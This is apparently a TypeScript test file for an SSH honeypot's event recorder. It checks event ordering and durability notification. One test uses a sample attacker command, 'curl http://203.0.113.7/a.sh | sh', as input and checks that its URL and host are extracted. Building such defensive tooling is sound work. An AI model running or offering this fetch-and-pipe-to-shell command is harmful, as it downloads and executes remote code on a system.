import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { DecoyEvent } from '../../model/event.ts';
import type { EventKind } from '../decoy.ts';
import { createRecorder } from './recorder.ts';

const kind: EventKind = { severity: 'low', attack: ['T1059'], worth: 'talk' };
const origin = {
  connection: '0123456789abcdef',
  src: { ip: '192.0.2.1', port: 4711 },
  dst: { ip: '192.0.2.2', port: 22 },
  fp: {},
};

describe('the recorder', () => {
  it('keeps the order of events while what decodes them is loaded', async () => {
    const events: DecoyEvent[] = [];
    const recorder = createRecorder((message) => {
      if (message.kind !== 'events') return;
      events.push(...message.events.map((one) => JSON.parse(`{${one.json}}`) as DecoyEvent));
      setImmediate(() => recorder.durable(events.length));
    });
    const types = ['ssh.connect', 'ssh.exec', 'ssh.close'];
    const raw = 'curl http://203.0.113.7/a.sh | sh';
    await Promise.all(
      types.map((type) => recorder.record(origin, type, kind, type === 'ssh.exec' ? { raw } : {})),
    );
    assert.deepEqual(
      events.map((one) => one.type),
      types,
    );
    const [connect, exec, close] = events;
    assert.deepEqual(exec?.norm.urls, ['http://203.0.113.7/a.sh']);
    assert.deepEqual(exec?.norm.hosts, ['203.0.113.7']);
    assert.deepEqual(connect?.norm, close?.norm);
    assert.deepEqual(close?.norm, { urls: [], hosts: [], images: [], wallets: [], commands: [] });
  });

  it('wakes who waits for an event when it is on disk, and nobody else', async () => {
    const recorder = createRecorder(() => {});
    const woken: number[] = [];
    const all = [1, 2, 3].map((number) =>
      recorder.record(origin, 'ssh.connect', kind).then(() => woken.push(number)),
    );
    recorder.durable(2);
    await Promise.all(all.slice(0, 2));
    assert.deepEqual(woken, [1, 2]);
    recorder.durable(3);
    await all[2];
    assert.deepEqual(woken, [1, 2, 3]);
  });
});
